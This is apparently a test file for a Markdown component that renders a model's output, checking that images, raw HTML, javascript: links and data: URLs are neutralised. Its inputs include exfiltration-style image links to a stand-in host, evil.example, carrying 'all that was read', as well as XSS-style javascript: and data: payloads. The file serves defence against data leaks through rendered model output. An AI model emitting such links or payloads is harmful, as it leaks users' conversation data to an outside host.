import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "./Markdown";

const shown = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
const EVIL = "https://evil.example/p.png?q=all%20that%20was%20read";

test.each([
  `![logo](${EVIL})`,
  `![图](${EVIL} "标题")`,
  `![x][1]\n\n[1]: ${EVIL}`,
  `[![x](${EVIL})](${EVIL})`,
  `<img src="${EVIL}">`,
  `<style>@import "${EVIL}"</style><iframe src="${EVIL}"></iframe><video poster="${EVIL}"></video>`,
])("an image of a model's is a link, and no HTML of its is used: %s", (text) => {
  const page = shown(text);
  expect(page).not.toMatch(/<(img|style|iframe|video|link|object|svg)/);
  expect(page).not.toMatch(/<[^>]* (src|srcset|poster|style|onerror)=/);
  for (const [link] of page.matchAll(/<a [^>]*>/g)) expect(link).toContain("noreferrer");
});

test("a link that would run something leads nowhere", () => {
  expect(shown("[x](javascript:alert(1)) [y](data:text/html,z)")).not.toMatch(/javascript:|data:/);
});
